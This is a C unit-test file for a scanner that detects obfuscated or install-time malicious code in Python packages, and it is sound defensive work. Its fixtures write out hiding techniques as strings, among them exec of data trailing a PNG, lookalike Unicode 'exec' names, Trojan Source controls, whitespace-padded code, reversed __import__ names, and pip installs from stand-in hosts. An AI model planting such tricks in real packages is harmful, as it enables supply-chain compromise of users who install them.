/* SPDX-License-Identifier: MIT */
/* obf.unicode-identifiers, obf.whitespace-hiding, install.pip-invocation.
 * Hosts are inert (203.0.113.0/24, .invalid). */
#include <stdio.h>

#include "rules_tests.h"

#define SETUP "demo-1.0/setup.py"
#define MOD "demo-1.0/demo/core.py"
#define RUNTIME_MOD "demo-1.0/demo/cli.py"

/* U+FF45 U+FF58 U+FF45 U+FF43: fullwidth "exec". */
#define FW_EXEC "\xef\xbd\x85\xef\xbd\x98\xef\xbd\x85\xef\xbd\x83"
/* Mathematical bold "exec". */
#define MB_EXEC "\xf0\x9d\x90\x9e\xf0\x9d\x90\xb1\xf0\x9d\x90\x9e\xf0\x9d\x90\x9c"
/* "exec" with Cyrillic U+0435 for both e. */
#define CY_EXEC "\xd0\xb5x\xd0\xb5" "c"

static const struct lg_finding *one(struct lg_findings *f, const char *path,
				    const char *text, const char *rule,
				    enum lg_severity sev, const char *needle)
{
	const struct lg_finding *x;

	t_scan(f, path, text);
	x = t_one(f, rule);
	assert_int_equal(x->severity, sev);
	if (needle && !strstr(x->message, needle))
		fail_msg("'%s' not in '%s'", needle, x->message);
	return x;
}

static void none_of(const char *path, const char *text, const char *rule)
{
	struct lg_findings f = LG_FINDINGS_INIT;

	t_scan(&f, path, text);
	if (t_count(&f, rule))
		fail_msg("unexpected %s: %s", rule, t_one(&f, rule)->message);
	lg_findings_dispose(&f);
}

/* ---- obf.steganography (C13) ------------------------------------------- */

static void test_rules_stego__media_then_exec(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	/* bytes after the image data, run where the package is imported */
	one(&f, "demo/__init__.py",
	    "import os\n"
	    "def _load():\n"
	    "    data = open(os.path.join('assets', 'logo.png'), 'rb').read()\n"
	    "    exec(data[data.index(b'IEND') + 8:].decode())\n"
	    "_load()\n",
	    LG_RULE_STEGANOGRAPHY, LG_SEV_CRITICAL, "C13");
	lg_findings_dispose(&f);
	/* a stego decoder, in setup.py: critical (install context) */
	one(&f, "demo-1.0/setup.py",
	    "from stegano import lsb\nfrom setuptools import setup\n"
	    "exec(lsb.reveal('demo/cat.png'))\nsetup()\n",
	    LG_RULE_STEGANOGRAPHY, LG_SEV_CRITICAL, "lsb.reveal");
	lg_findings_dispose(&f);
}

static void test_rules_stego__near_misses(void **state)
{
	(void)state;
	/* reading an image without running anything */
	none_of("demo/icons.py",
		"def icon():\n    return open('assets/logo.png', 'rb').read()\n",
		LG_RULE_STEGANOGRAPHY);
	/* the image and the exec live in different functions */
	none_of("demo/mix.py",
		"def icon():\n    return open('logo.png', 'rb').read()\n"
		"def run(src):\n    exec(src)\n",
		LG_RULE_STEGANOGRAPHY);
	/* PIL's ImageMath.eval and re.compile are not exec */
	none_of("demo/pil.py",
		"from PIL import Image, ImageMath\nimport re\n"
		"def f():\n    im = Image.open('a.png')\n"
		"    re.compile('x')\n    return ImageMath.eval('a+1', a=im)\n",
		LG_RULE_STEGANOGRAPHY);
	/* a text file read and exec'd is decode-exec's business, not C13 */
	none_of("demo/cfg.py",
		"def f():\n    exec(open('settings.txt').read())\n",
		LG_RULE_STEGANOGRAPHY);
}

/* ---- obf.unicode-identifiers ------------------------------------------- */

static void test_rules_unicode__nfkc_dangerous(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	one(&f, MOD, "import base64\n" FW_EXEC "(base64.b64decode(s))\n",
	    LG_RULE_UNICODE_IDENTIFIERS, LG_SEV_HIGH, "'exec'");
	/* The rules see the name Python binds: exec of decoded data. */
	assert_int_equal(t_count(&f, LG_RULE_DECODE_EXEC), 1);
	lg_findings_dispose(&f);
	/* Critical in setup.py, math bold letters too. */
	one(&f, SETUP, MB_EXEC "('x = 1')\n", LG_RULE_UNICODE_IDENTIFIERS,
	    LG_SEV_CRITICAL, "exec");
	lg_findings_dispose(&f);
	/* The name of an imported module, disguised. */
	one(&f, MOD, "import json\n\xef\xbd\x8a\xef\xbd\x93on.dumps(1)\n",
	    LG_RULE_UNICODE_IDENTIFIERS, LG_SEV_HIGH, "'json'");
	lg_findings_dispose(&f);
}

static void test_rules_unicode__nfkc_other_is_medium(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	/* U+FB01 ligature: `ﬁle_count` is `file_count`. */
	one(&f, MOD, "\xef\xac\x81le_count = 1\nprint(\xef\xac\x81le_count)\n",
	    LG_RULE_UNICODE_IDENTIFIERS, LG_SEV_MEDIUM, "and 1 more");
	lg_findings_dispose(&f);
}

static void test_rules_unicode__lookalikes(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	one(&f, MOD, "import os\n" CY_EXEC "('1')\n", LG_RULE_UNICODE_IDENTIFIERS,
	    LG_SEV_HIGH, "'exec'");
	lg_findings_dispose(&f);
	/* Cyrillic o in an ordinary word: medium. */
	one(&f, MOD, "c\xd0\xbeunter = 1\n", LG_RULE_UNICODE_IDENTIFIERS,
	    LG_SEV_MEDIUM, "counter");
	lg_findings_dispose(&f);
}

static void test_rules_unicode__controls(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	/* U+200B inside a name. */
	one(&f, MOD, "ev\xe2\x80\x8b" "al = 1\n", LG_RULE_UNICODE_IDENTIFIERS,
	    LG_SEV_MEDIUM, "zero-width");
	lg_findings_dispose(&f);
	/* Trojan Source: an RLO left open in a comment; medium even in
	 * setup.py. */
	one(&f, SETUP, "x = 1  # \xe2\x80\xae } if admin:\n",
	    LG_RULE_UNICODE_IDENTIFIERS, LG_SEV_MEDIUM, "Trojan Source");
	lg_findings_dispose(&f);
}

static void test_rules_unicode__i18n_near_misses(void **state)
{
	(void)state;
	/* Greek math names, Chinese and Russian identifiers, non-ASCII in
	 * strings, comments and docstrings, a closed bidi pair in a string,
	 * and the micro sign (NFKC gives Greek mu, not ASCII). */
	none_of(MOD,
		"\"\"\"Docstring: " FW_EXEC " \xce\xbb.\"\"\"\n"
		"\xce\xbb = 0.5\n"
		"\xce\x94t = 0.1\n"
		"\xcf\x83_x = \xce\xbb * \xce\x94t\n"
		"\xe5\x90\x8d\xe5\xad\x97 = '" FW_EXEC "'\n"
		"\xd0\xb8\xd0\xbc\xd1\x8f = '\xd0\xbf\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82'\n"
		"get\xd0\x98\xd0\xbc\xd1\x8f = 1\n"
		"msg = '\xe2\x80\xab\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d\xe2\x80\xac'\n"
		"# " CY_EXEC " in a comment\n"
		"\xc2\xb5 = 1e-6\n",
		LG_RULE_UNICODE_IDENTIFIERS);
}

/* ---- obf.whitespace-hiding --------------------------------------------- */

static char *padded(const char *before, size_t blanks, const char *after)
{
	static char buf[1024];
	size_t n = strlen(before);

	assert_true(n + blanks + strlen(after) < sizeof(buf));
	memcpy(buf, before, n);
	memset(buf + n, ' ', blanks);
	memcpy(buf + n + blanks, after, strlen(after) + 1);
	return buf;
}

static void test_rules_whitespace__hit(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	one(&f, MOD, padded("x = 1;", 160, "import os; os.getcwd()\n"),
	    LG_RULE_WHITESPACE_HIDING, LG_SEV_MEDIUM, "column 167");
	lg_findings_dispose(&f);
	/* setup.py: high. */
	one(&f, SETUP, padded("VERSION = '1.0'", 150, ";import os\n"),
	    LG_RULE_WHITESPACE_HIDING, LG_SEV_HIGH, "150 blanks");
	lg_findings_dispose(&f);
}

static void test_rules_whitespace__near_misses(void **state)
{
	(void)state;
	/* Aligned tables inside strings and docstrings. */
	none_of(MOD, padded("T = '''\nname", 200, "value value value\n'''\n"),
		LG_RULE_WHITESPACE_HIDING);
	none_of(MOD, padded("x = 1  #", 200, "comment comment comment\n"),
		LG_RULE_WHITESPACE_HIDING);
	/* 149 blanks, or too little code after them. */
	none_of(MOD, padded("x = 1;", 149, "import os; os.getcwd()\n"),
		LG_RULE_WHITESPACE_HIDING);
	none_of(MOD, padded("x = 1", 200, "# note\n"),
		LG_RULE_WHITESPACE_HIDING);
	none_of(MOD, padded("x = (1,", 200, "2)\n"),
		LG_RULE_WHITESPACE_HIDING);
	/* Arguments aligned far right on a continuation line. */
	none_of(MOD, padded("x = call(first,\n", 170,
			    "second_argument_name)\n"),
		LG_RULE_WHITESPACE_HIDING);
}

/* ---- install.pip-invocation -------------------------------------------- */

static void test_rules_pip__bootstrap_is_medium(void **state)
{
	static const char *const shapes[] = {
		"import subprocess, sys\n"
		"subprocess.check_call([sys.executable, '-m', 'pip', "
		"'install', 'numpy'])\n",
		"import os\nos.system('pip install cython')\n",
		"import pip\npip.main(['install', '--user', 'numpy>=1.20'])\n",
		"from pip._internal import main\nmain(['install', 'cython'])\n",
		"import subprocess, sys\n"
		"subprocess.run(f'{sys.executable} -m pip install -q numpy', "
		"shell=True)\n",
	};
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	for (size_t i = 0; i < LG_ARRAY_SIZE(shapes); i++) {
		one(&f, SETUP, shapes[i], LG_RULE_PIP_INVOCATION, LG_SEV_MEDIUM,
		    "pip install");
		/* Not blocked by install.toplevel-process either (the
		 * f-string is a command it cannot name: medium). */
		assert_true(lg_findings_max_severity(&f, 0) <= (int)LG_SEV_MEDIUM);
		if (i + 1 < LG_ARRAY_SIZE(shapes))
			assert_int_equal(f.n, 1);
		lg_findings_dispose(&f);
	}
}

static void test_rules_pip__risky_targets_are_high(void **state)
{
	static const struct {
		const char *text, *needle;
	} shapes[] = {
		{"import subprocess, sys\nsubprocess.check_call([sys.executable, "
		 "'-m', 'pip', 'install', 'git+https://203.0.113.7/x.git'])\n",
		 "VCS"},
		{"import pip\nURL = 'https://203.0.113.7/pkgs/x-1.0.tar.gz'\n"
		 "pip.main(['install', URL])\n",
		 "a URL"},
		{"import subprocess\nsubprocess.call(['pip3', 'install', "
		 "'--extra-index-url', 'https://pkgs.example.invalid/simple', "
		 "'requests'])\n",
		 "other than PyPI"},
		{"import os\nos.system('pip install /tmp/payload-1.0-py3-none-any.whl')\n",
		 "local archive"},
		{"import runpy, sys\nsys.argv = ['pip', 'install', 'x']\n"
		 "runpy.run_module('pip', run_name='__main__')\n",
		 NULL},
	};
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	for (size_t i = 0; i < LG_ARRAY_SIZE(shapes); i++) {
		one(&f, SETUP, shapes[i].text, LG_RULE_PIP_INVOCATION,
		    shapes[i].needle ? LG_SEV_HIGH : LG_SEV_MEDIUM,
		    shapes[i].needle);
		lg_findings_dispose(&f);
	}
	/* At import of a package module: still high. */
	one(&f, MOD, shapes[0].text, LG_RULE_PIP_INVOCATION, LG_SEV_HIGH,
	    "VCS");
	lg_findings_dispose(&f);
}

static void test_rules_pip__near_misses(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	/* Other pip sub-commands, pip named in strings, other programs. */
	none_of(SETUP,
		"import subprocess, sys\n"
		"subprocess.check_call([sys.executable, '-m', 'pip', '--version'])\n"
		"print('run pip install demo to install')\n"
		"subprocess.check_call(['pipenv', 'install'])\n",
		LG_RULE_PIP_INVOCATION);
	/* pip's own __main__ and runner hand sys.argv on. */
	none_of("pip-23.0/src/pip/__main__.py",
		"import sys\nfrom pip._internal.cli.main import main as _main\n"
		"sys.exit(_main())\n",
		LG_RULE_PIP_INVOCATION);
	none_of("pip-23.0/src/pip/__pip-runner__.py",
		"import runpy\nrunpy.run_module('pip', run_name='__main__', "
		"alter_sys=True)\n",
		LG_RULE_PIP_INVOCATION);
	/* --target takes a directory, which is not a local package; the
	 * PyPI index is not another host. */
	one(&f, SETUP,
	    "import subprocess, sys\nsubprocess.check_call([sys.executable, "
	    "'-m', 'pip', 'install', '--target', './vendor', '-i', "
	    "'https://pypi.org/simple', 'six'])\n",
	    LG_RULE_PIP_INVOCATION, LG_SEV_MEDIUM, "'six'");
	lg_findings_dispose(&f);
	/* A plugin installer nothing runs at import: low. */
	one(&f, RUNTIME_MOD,
	    "import subprocess, sys\n"
	    "def add_plugin(name):\n"
	    "    subprocess.check_call([sys.executable, '-m', 'pip', "
	    "'install', name])\n",
	    LG_RULE_PIP_INVOCATION, LG_SEV_LOW, NULL);
	lg_findings_dispose(&f);
}

/* ---- obf.identifier-noise ------------------------------------------------ */

/* n assignments to distinct lIl1O0-style names, then tail. */
static void noise_text(char *out, size_t cap, unsigned n, const char *tail)
{
	size_t len = 0;

	out[0] = '\0';
	for (unsigned i = 0; i < n; i++) {
		char name[16];

		name[0] = 'O';
		for (unsigned b = 0; b < 10; b++)
			name[b + 1] = (i >> b) & 1 ? 'l' : 'I';
		name[11] = '\0';
		len += (size_t)snprintf(out + len, cap - len, "%s = %u\n",
					name, i);
	}
	snprintf(out + len, cap - len, "%s", tail);
}

static void test_rules_noise__hit(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	char text[2048];
	const struct lg_finding *x;

	(void)state;
	/* C10: noise next to __import__ of a computed name */
	noise_text(text, sizeof(text), 12,
		   "m = __import__('ssecorpbus'[::-1])\n");
	x = one(&f, MOD, text, "obf.identifier-noise", LG_SEV_HIGH,
		"combination C10");
	(void)x;
	lg_findings_dispose(&f);
	/* setup.py of junk assignments: install context raises medium */
	noise_text(text, sizeof(text), 12,
		   "from setuptools import setup\nsetup(name='x')\n");
	one(&f, SETUP, text, "obf.identifier-noise", LG_SEV_HIGH,
	    "install context");
	lg_findings_dispose(&f);
	/* aAaA... names count too; alone in a module they are medium */
	one(&f, MOD,
	    "aAaAaAaAaAaA = 1\naaAAaaAAaaAA = 2\nAAAAaaaaAAAA = 3\n"
	    "aaaaaaaaaaaA = 4\nAaAaAaAaAaAa = 5\nAAaaAAaaAAaa = 6\n"
	    "tttttttttttttt = 7\nVVVVVVVVVVVVVV = 8\naAAAAAAAAAAA = 9\n"
	    "Aaaaaaaaaaaa = 10\n",
	    "obf.identifier-noise", LG_SEV_MEDIUM, "10 obfuscator-made");
	lg_findings_dispose(&f);
}

static void test_rules_noise__near_misses(void **state)
{
	char text[2048];

	(void)state;
	/* nine are not enough */
	noise_text(text, sizeof(text), 9, "import subprocess\n");
	none_of(MOD, text, "obf.identifier-noise");
	/* short look-alike names (l1, I0, O0O) and real words */
	none_of(MOD,
		"l1 = I0 = O0O = lI = 1\nIIII = llll = 0\n"
		"level = Item = Ollie = illicit = 2\n"
		"total_lines = 3\nLOOP_LIMIT = 4\nsssss = 5\n",
		"obf.identifier-noise");
	/* one noise name repeated is one name */
	none_of(MOD,
		"lIlIlIlIlI = 1\nlIlIlIlIlI += 1\nlIlIlIlIlI += 1\n"
		"lIlIlIlIlI += 1\nlIlIlIlIlI += 1\nlIlIlIlIlI += 1\n"
		"lIlIlIlIlI += 1\nlIlIlIlIlI += 1\nlIlIlIlIlI += 1\n"
		"lIlIlIlIlI += 1\nlIlIlIlIlI += 1\nlIlIlIlIlI += 1\n",
		"obf.identifier-noise");
}

/* ---- code spelled in escapes, binary .py members ------------------------ */

static void test_rules_escaped_eval(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	one(&f, MOD,
	    "magic = 'aW1wb3J0IG9z'\n"
	    "trust = eval('\\x6d\\x61\\x67\\x69\\x63')\n",
	    "exec.decode-exec", LG_SEV_HIGH, "escape sequences");
	lg_findings_dispose(&f);
	/* near misses: partly escaped, escapes outside a sink */
	none_of(MOD, "x = eval('1 + \\x32')\n", "exec.decode-exec");
	none_of(MOD, "print('\\x41\\x42\\x43\\x44')\n",
		"exec.decode-exec");
}

static void scan_bytes(struct lg_findings *f, const char *path,
		       const char *data, size_t len)
{
	assert_int_equal(lg_rules_scan_member(f, path, data, len), 0);
}

static void test_rules_binary_py(void **state)
{
	static const char blob[] = "\xb1\xa6l\xfc\xff\x01\x02\x03\x04\x00"
				   "\x05\x06\x07\x08\x0e\x0f\x10\x11";
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	scan_bytes(&f, MOD, blob, sizeof(blob) - 1);
	assert_int_equal(t_one(&f, "bin.disguised-executable")->severity,
			 LG_SEV_HIGH);
	lg_findings_dispose(&f);
	/* in tests/ it is two levels lower */
	scan_bytes(&f, "demo-1.0/tests/data.py", blob, sizeof(blob) - 1);
	assert_int_equal(t_one(&f, "bin.disguised-executable")->severity,
			 LG_SEV_LOW);
	lg_findings_dispose(&f);
	/* near miss: Latin-1 text with a form feed is source */
	none_of(MOD, "# -*- coding: latin-1 -*-\n\x0cname = '\xe9t\xe9'\n",
		"bin.disguised-executable");
}

int test_rules_obf_group(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rules_unicode__nfkc_dangerous),
		cmocka_unit_test(test_rules_unicode__nfkc_other_is_medium),
		cmocka_unit_test(test_rules_unicode__lookalikes),
		cmocka_unit_test(test_rules_unicode__controls),
		cmocka_unit_test(test_rules_unicode__i18n_near_misses),
		cmocka_unit_test(test_rules_whitespace__hit),
		cmocka_unit_test(test_rules_whitespace__near_misses),
		cmocka_unit_test(test_rules_noise__hit),
		cmocka_unit_test(test_rules_noise__near_misses),
		cmocka_unit_test(test_rules_escaped_eval),
		cmocka_unit_test(test_rules_binary_py),
		cmocka_unit_test(test_rules_pip__bootstrap_is_medium),
		cmocka_unit_test(test_rules_pip__risky_targets_are_high),
		cmocka_unit_test(test_rules_pip__near_misses),
		cmocka_unit_test(test_rules_stego__media_then_exec),
		cmocka_unit_test(test_rules_stego__near_misses),
	};

	return cmocka_run_group_tests_name("rules_obf", tests, NULL, NULL);
}
